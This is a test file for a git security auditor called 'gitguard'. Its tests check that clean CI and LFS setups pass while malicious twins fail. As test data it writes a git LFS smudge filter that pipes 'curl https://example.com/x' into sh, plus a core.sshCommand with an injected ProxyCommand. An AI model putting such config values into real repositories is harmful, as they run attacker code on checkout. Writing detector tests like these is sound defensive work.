// Clean repositories made the ways real projects make them must pass: each case here was a false
// failure (a rule failing, or the audit stopping, where a security engineer sees nothing wrong), and
// each keeps a twin that still fails, so the fix cannot have switched the check off.
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cleanupTemp, tempDir, type TestRepo } from '../helpers/repo.js';
import { makeSshKey, type SshTestKey } from '../helpers/ssh.js';
import { ALICE_POLICY, sshSigningRepo, tryGit } from '../helpers/signing-repo.js';
import { runMain, parseJson, resultOf } from '../helpers/cli.js';
import { gitAsync, inProcessHooks, stopHookBridge } from '../helpers/hook-bridge.js';
import { madeOnce } from '../helpers/made-once.js';

let alice: SshTestKey;
beforeAll(() => {
  alice = makeSshKey(mkdtempSync(join(tmpdir(), 'gg-clean-')), 'ed25519', 'alice');
});
afterAll(async () => {
  await stopHookBridge();
  cleanupTemp();
});

const POLICY = ALICE_POLICY;
const git = tryGit;
// The repository under the default policy is made once per file and copied for each test that asks.
const defaultRepo = madeOnce(() => ({ r: sshSigningRepo(alice, POLICY) }));
const signingRepo = (policy = POLICY): TestRepo =>
  policy === POLICY ? defaultRepo().r : sshSigningRepo(alice, policy);

const audit = async (r: TestRepo, rules: string[], dir = r.dir, extra: string[] = []) => {
  const res = await runMain(['audit', '-C', dir, '--format', 'json', '--no-cache', '-r', rules.join(','), ...extra], {
    env: r.env,
  });
  return { code: res.code, report: parseJson(res), stderr: res.stderr };
};

const ledgerRefs = (r: TestRepo): string[] =>
  Object.keys(
    (JSON.parse(readFileSync(join(r.dir, '.git', 'gitguard', 'ledger.json'), 'utf8')) as { refs: object }).refs,
  );

// With the signature rules: an audit whose only rules have nothing to judge yet looks at nothing (exit 2).
const LEDGER_RULES = ['protected-refs-not-rewritten', 'protected-refs-present', 'tags-not-moved', 'commits-signed'];

describe('a topic branch is not the default branch, whichever is checked out', () => {
  // The pre-push hook runs gitguard in this process (helpers/hook-bridge.ts), except in the last
  // test, which reinstalls it to run the built binary.
  let r: TestRepo;
  beforeAll(async () => {
    r = signingRepo();
    const remote = join(tempDir(), 'remote.git');
    r.run(['init', '-q', '--bare', remote]);
    r.run(['remote', 'add', 'origin', remote]);
    expect((await runMain(['hook', 'install', '-C', r.dir], { env: r.env, ...(await inProcessHooks()) })).code).toBe(0);
    expect((await gitAsync(r, ['push', '-q', 'origin', 'main'])).code).toBe(0);
    r.run(['checkout', '-q', '-b', 'topic']);
    r.commit('topic work');
    expect((await gitAsync(r, ['push', '-q', 'origin', 'topic'])).code).toBe(0);
  });

  test('an audit run on the topic branch records main and the tags, not the topic branch', async () => {
    const { code, report } = await audit(r, LEDGER_RULES);
    expect(code).toBe(0);
    expect(ledgerRefs(r)).toEqual(['refs/heads/main', 'refs/remotes/origin/main']);
    expect(report.results.map((x) => x.outcome)).not.toContain('fail');
  });

  test('rebasing the topic branch onto main and force-pushing it passes the audit and the pre-push hook', async () => {
    r.run(['checkout', '-q', 'main']);
    r.commit('main moves on');
    expect((await gitAsync(r, ['push', '-q', 'origin', 'main'])).code).toBe(0);
    r.run(['checkout', '-q', 'topic']);
    r.run(['rebase', '-q', 'main']);
    const { code, report } = await audit(r, [...LEDGER_RULES, 'signatures-valid']);
    expect(report.results.map((x) => [x.meta.id, x.outcome])).toEqual(
      expect.arrayContaining([
        ['protected-refs-not-rewritten', 'pass'],
        ['commits-signed', 'pass'],
      ]),
    );
    expect(code).toBe(0);
    const push = await gitAsync(r, ['push', '-q', '--force', 'origin', 'topic']);
    expect(push.stderr).not.toContain('refused');
    expect(push.code).toBe(0);
    expect((await gitAsync(r, ['push', '-q', 'origin', '--delete', 'topic'])).code).toBe(0);
  });

  test('rewriting main is still refused by the hook (the built binary) and fails the audit', async () => {
    expect((await runMain(['hook', 'install', '-C', r.dir], { env: r.env })).code).toBe(0);
    r.run(['checkout', '-q', 'main']);
    await audit(r, LEDGER_RULES); // records main's tip
    r.run(['reset', '-q', '--hard', 'HEAD~1']);
    r.commit('main rewritten');
    const push = git(r, ['push', '-q', '--force', 'origin', 'main']);
    expect(push.code).not.toBe(0);
    expect(push.stderr).toContain('non-fast-forward update of protected ref refs/heads/main');
    const { code, report } = await audit(r, LEDGER_RULES);
    expect(resultOf(report, 'protected-refs-not-rewritten').outcome).toBe('fail');
    expect(code).toBe(1);
  });

  test("a clone's origin/HEAD names the default branch: a branch called trunk is protected there", async () => {
    const upstream = signingRepo();
    upstream.run(['branch', '-q', '-m', 'main', 'trunk']);
    const clone = join(tempDir(), 'clone');
    upstream.run(['clone', '-q', upstream.dir, clone]);
    expect(git(upstream, ['-C', clone, 'symbolic-ref', 'refs/remotes/origin/HEAD']).code).toBe(0);
    expect(git(upstream, ['-C', clone, 'checkout', '-q', '-b', 'topic']).code).toBe(0);
    await audit(upstream, LEDGER_RULES, clone);
    const recorded = Object.keys(
      (JSON.parse(readFileSync(join(clone, '.git', 'gitguard', 'ledger.json'), 'utf8')) as { refs: object }).refs,
    );
    expect(recorded).toEqual(['refs/heads/trunk', 'refs/remotes/origin/trunk']);
  });
});

describe('a ref the ledger recorded stays protected when the globs no longer name it', () => {
  test('it still exists, so it is not reported deleted; rewriting it still fails', async () => {
    const r = signingRepo(`${POLICY}protected:\n  refs: [refs/heads/main, refs/heads/release]\n`);
    r.run(['branch', 'release']);
    await audit(r, LEDGER_RULES);
    expect(ledgerRefs(r)).toEqual(['refs/heads/main', 'refs/heads/release']);
    // A maintainer narrows the policy: release is no longer named, but the ledger keeps it.
    r.commit('policy: only main', { '.gitguard/policy.yml': `${POLICY}protected:\n  refs: [refs/heads/main]\n` });
    let { report } = await audit(r, LEDGER_RULES);
    expect(resultOf(report, 'protected-refs-present').outcome).toBe('pass');
    expect(resultOf(report, 'protected-refs-not-rewritten').outcome).toBe('pass');

    r.run(['checkout', '-q', 'release']);
    r.run(['commit', '-q', '--amend', '--allow-empty', '-m', 'release rewritten']);
    r.run(['checkout', '-q', 'main']);
    ({ report } = await audit(r, LEDGER_RULES));
    expect(resultOf(report, 'protected-refs-present').outcome).toBe('pass');
    expect(resultOf(report, 'protected-refs-not-rewritten').outcome).toBe('fail');
  });
});

describe('annotated tags follow require_signatures like commits', () => {
  test('with require_signatures: false an unsigned annotated tag passes tags-signed; a badly signed one fails', async () => {
    const r = signingRepo(`${POLICY}require_signatures: false\n`);
    r.commit('work');
    r.run(['-c', 'tag.gpgSign=false', 'tag', '-a', 'v1.0', '-m', 'release 1.0']);
    let { code, report } = await audit(r, ['tags-signed', 'commits-signed']);
    expect(resultOf(report, 'tags-signed').outcome).toBe('pass');
    expect(resultOf(report, 'tags-signed').note).toContain(
      '1 unsigned where the policy sets require_signatures: false',
    );
    expect(code).toBe(0);

    // A signed tag is still judged: signed by alice as somebody else is an impersonation.
    r.run(['tag', '-s', 'v1.1', '-m', 'release 1.1'], {
      env: { GIT_COMMITTER_NAME: 'Mallory', GIT_COMMITTER_EMAIL: 'mallory@example.com' },
    });
    ({ code, report } = await audit(r, ['tags-signed']));
    expect(resultOf(report, 'tags-signed').outcome).toBe('fail');
    expect(resultOf(report, 'tags-signed').findings.map((f) => f.message)).toEqual([
      expect.stringContaining('refs/tags/v1.1'),
    ]);
    expect(code).toBe(1);
  });

  test('with the default policy (signatures required) an unsigned annotated tag fails', async () => {
    const r = signingRepo();
    r.run(['-c', 'tag.gpgSign=false', 'tag', '-a', 'v1.0', '-m', 'release 1.0']);
    const { code, report } = await audit(r, ['tags-signed']);
    expect(resultOf(report, 'tags-signed').findings.map((f) => f.message)).toEqual([
      'refs/tags/v1.0: annotated tag is not signed',
    ]);
    expect(code).toBe(1);
  });
});

describe('a shallow clone of a signed history', () => {
  // The first commit carrying the policy that gitguard can see is on the boundary, so who wrote the
  // policy before it is unknown: a default root there would be judged by its own policy. The audit
  // says so in one line (exit 2); with the root named, the clone is audited and its commits judged.
  test('is refused in one line without --trust-root; with it, history-complete fails and its commits are judged', async () => {
    const r = signingRepo();
    for (let i = 0; i < 3; i++) r.commit(`work ${i}`);
    const clone = join(tempDir(), 'shallow');
    r.run(['clone', '-q', '--depth', '1', `file://${r.dir}`, clone]);
    const refused = await runMain(['audit', '-C', clone, '--no-cache', '-r', 'commits-signed,signers-authorized'], {
      env: r.env,
    });
    expect(refused.code).toBe(2);
    expect(refused.stderr.trim().split('\n')).toHaveLength(1);
    expect(refused.stderr).toContain('--unshallow');
    const { code, report, stderr } = await audit(r, ['history-complete', 'signatures-valid', 'commits-signed'], clone, [
      '--trust-root',
      'HEAD',
    ]);
    expect(stderr).not.toContain('cannot read the history');
    expect(resultOf(report, 'history-complete').outcome).toBe('fail');
    expect(resultOf(report, 'commits-signed').outcome).toBe('pass');
    expect(resultOf(report, 'signatures-valid').outcome).toBe('pass');
    expect(code).toBe(1);
  });
});

describe("a GitHub Actions pull_request run checks out GitHub's test merge (refs/pull/<n>/merge)", () => {
  let r: TestRepo;
  let ci: string;
  let merge: string;
  const prEnv = (sha: string): NodeJS.ProcessEnv => ({
    ...r.env,
    GITHUB_ACTIONS: 'true',
    GITHUB_EVENT_NAME: 'pull_request',
    GITHUB_REF: 'refs/pull/7/merge',
    GITHUB_SHA: sha,
  });
  /** The merge GitHub makes to test a pull request: unsigned, "Merge <head> into <base>". */
  const testMerge = (head: string): string => {
    r.run(['checkout', '-q', '--detach', 'main']);
    const base = r.head();
    r.run(['merge', '-q', '--no-ff', '--no-gpg-sign', '-m', `Merge ${head} into ${base}`, head], {
      env: { GIT_COMMITTER_NAME: 'GitHub', GIT_COMMITTER_EMAIL: 'noreply@github.com' },
    });
    const oid = r.head();
    r.run(['update-ref', 'refs/pull/7/merge', oid]);
    r.run(['checkout', '-q', 'main']);
    return oid;
  };
  const checkout = (): void => {
    // What actions/checkout does with fetch-depth: 0 on a pull_request event.
    ci = join(tempDir(), 'ci');
    r.run(['init', '-q', ci]);
    r.run([
      '-C',
      ci,
      'fetch',
      '-q',
      r.dir,
      '+refs/heads/*:refs/remotes/origin/*',
      '+refs/pull/7/merge:refs/remotes/pull/7/merge',
    ]);
    r.run(['-C', ci, 'checkout', '-q', '--detach', 'refs/remotes/pull/7/merge']);
  };
  beforeAll(() => {
    r = signingRepo();
    r.commit('main work');
    r.run(['checkout', '-q', '-b', 'feature']);
    r.commit('pull request work');
    merge = testMerge(r.run(['rev-parse', 'feature']));
    checkout();
  });

  test('its two parents are judged, the test merge is not: a signed pull request passes', async () => {
    const res = await runMain(['audit', '-C', ci, '--format', 'json', '--no-cache', '-r', 'commits-signed'], {
      env: prEnv(merge),
    });
    const report = parseJson(res);
    expect(report.scope.description).toContain("is GitHub's test merge refs/pull/7/merge");
    expect(resultOf(report, 'commits-signed').outcome).toBe('pass');
    expect(report.scope.commits).toBe(3);
    expect(res.code).toBe(0);
  });

  test('outside a pull_request run, or for another commit, HEAD is judged as it is', async () => {
    for (const env of [{ ...prEnv(merge), GITHUB_EVENT_NAME: 'push' }, prEnv('0'.repeat(40)), r.env]) {
      const res = await runMain(['audit', '-C', ci, '--format', 'json', '--no-cache', '-r', 'commits-signed'], { env });
      expect(resultOf(parseJson(res), 'commits-signed').findings.map((f) => f.commit)).toEqual([merge]);
    }
  });

  test('an unsigned commit in the pull request still fails', async () => {
    r.run(['checkout', '-q', 'feature']);
    const unsigned = r.commit('unsigned work', {}, ['--no-gpg-sign']);
    merge = testMerge(unsigned);
    checkout();
    const res = await runMain(['audit', '-C', ci, '--format', 'json', '--no-cache', '-r', 'commits-signed'], {
      env: prEnv(merge),
    });
    expect(resultOf(parseJson(res), 'commits-signed').findings.map((f) => f.commit)).toEqual([unsigned]);
    expect(res.code).toBe(1);
  });
});

describe('a mirror clone is a copy, not a server', () => {
  test('the server rules do not apply to it unless --server says so; a bare clone is still a server', async () => {
    const r = signingRepo();
    const mirror = join(tempDir(), 'mirror.git');
    const bare = join(tempDir(), 'bare.git');
    r.run(['clone', '-q', '--mirror', r.dir, mirror]);
    r.run(['clone', '-q', '--bare', r.dir, bare]);
    const SERVER = ['server-receive-hardened', 'server-hook-installed'];
    const outcomes = async (dir: string, extra: string[] = []) => {
      const { report } = await audit(r, SERVER, dir, extra);
      return SERVER.map((id) => [resultOf(report, id).outcome, resultOf(report, id).note ?? '']);
    };
    for (const [outcome, note] of await outcomes(mirror)) {
      expect(outcome).toBe('not-applicable');
      expect(note).toContain('a mirror clone of remote origin (remote.origin.mirror)');
    }
    expect((await outcomes(mirror, ['--server'])).map(([o]) => o)).toEqual(['fail', 'fail']);
    expect((await outcomes(bare)).map(([o]) => o)).toEqual(['fail', 'fail']);
  });
});

describe('CI: --base of a push that created the branch', () => {
  test('all zeros (github.event.before, CI_COMMIT_BEFORE_SHA) audits the whole history; a missing commit is still exit 2', async () => {
    const r = signingRepo();
    r.commit('work');
    const zeros = await audit(r, ['commits-signed', 'protected-refs-not-rewritten'], r.dir, ['--base', '0'.repeat(40)]);
    expect(zeros.stderr).toBe('');
    expect(zeros.report.scope.commits).toBe(2);
    expect(zeros.code).toBe(0);
    const missing = await runMain(['audit', '-C', r.dir, '--no-cache', '--base', `${'0'.repeat(39)}1`], { env: r.env });
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('is not a commit');
  });
});

describe('Git LFS set up in the repository (git lfs install --local, actions/checkout with lfs: true)', () => {
  test("its filter runs the user's git-lfs: no-code-execution-in-local-config passes; another command fails", async () => {
    const r = signingRepo();
    r.commit('lfs attributes', { '.gitattributes': '*.psd filter=lfs diff=lfs merge=lfs -text\n' });
    // What git lfs install --local writes into .git/config.
    r.run(['config', '--local', 'filter.lfs.clean', 'git-lfs clean -- %f']);
    r.run(['config', '--local', 'filter.lfs.smudge', 'git-lfs smudge -- %f']);
    r.run(['config', '--local', 'filter.lfs.process', 'git-lfs filter-process']);
    r.run(['config', '--local', 'filter.lfs.required', 'true']);
    let { code, report } = await audit(r, ['no-code-execution-in-local-config']);
    expect(resultOf(report, 'no-code-execution-in-local-config').outcome).toBe('pass');
    expect(code).toBe(0);
    r.run(['config', '--local', 'filter.lfs.smudge', 'sh -c "curl https://example.com/x | sh"']);
    ({ code, report } = await audit(r, ['no-code-execution-in-local-config']));
    expect(resultOf(report, 'no-code-execution-in-local-config').findings.map((f) => f.message)).toEqual([
      expect.stringContaining('filter.lfs.smudge'),
    ]);
    expect(code).toBe(1);
  });
});

describe('actions/checkout with an ssh-key (persist-credentials on)', () => {
  test("its core.sshCommand runs the system ssh with the job's key: passes; the same with a ProxyCommand fails", async () => {
    const r = signingRepo();
    const id = '0d9e4c21-7a3b-4f5e-8c6d-1b2a3c4d5e6f';
    // actions/checkout's own value: $RUNNER_TEMP is left for the shell git runs it with.
    const checkout = `"/usr/bin/ssh" -i "$RUNNER_TEMP/${id}" -o StrictHostKeyChecking=yes -o CheckHostIP=no -o "UserKnownHostsFile=$RUNNER_TEMP/${id}_known_hosts"`;
    r.run(['config', '--local', 'core.sshCommand', checkout]);
    let { code, report } = await audit(r, ['no-code-execution-in-local-config']);
    expect(resultOf(report, 'no-code-execution-in-local-config').outcome).toBe('pass');
    expect(code).toBe(0);
    r.run(['config', '--local', 'core.sshCommand', checkout.replace(' -o CheckHostIP=no', ' -o ProxyCommand=/tmp/x')]);
    ({ code, report } = await audit(r, ['no-code-execution-in-local-config']));
    expect(resultOf(report, 'no-code-execution-in-local-config').findings.map((f) => f.message)).toEqual([
      expect.stringContaining('ProxyCommand'),
    ]);
    expect(code).toBe(1);
  });
});

describe("GitLab CI: the runner's checkout keeps the job token in origin's URL", () => {
  test("this job's own CI_JOB_TOKEN passes remote-urls-without-credentials and is never printed; outside the job it fails", async () => {
    const r = signingRepo();
    const token = 'glcbt-64_Zx8Yq2Lm4Np6Rs0Tu1Vw';
    r.run(['remote', 'add', 'origin', `https://gitlab-ci-token:${token}@gitlab.example.com/group/app.git`]);
    const job = { ...r.env, GITLAB_CI: 'true', CI_JOB_TOKEN: token };
    const args = ['audit', '-C', r.dir, '--format', 'json', '--no-cache', '-r', 'remote-urls-without-credentials'];
    const inJob = await runMain(args, { env: job });
    expect(resultOf(parseJson(inJob), 'remote-urls-without-credentials').outcome).toBe('pass');
    expect(inJob.stdout + inJob.stderr).not.toContain(token);
    expect(inJob.code).toBe(0);
    const outside = await runMain(args, { env: r.env });
    expect(resultOf(parseJson(outside), 'remote-urls-without-credentials').outcome).toBe('fail');
    expect(outside.stdout).not.toContain(token);
    expect(outside.code).toBe(1);
  });
});
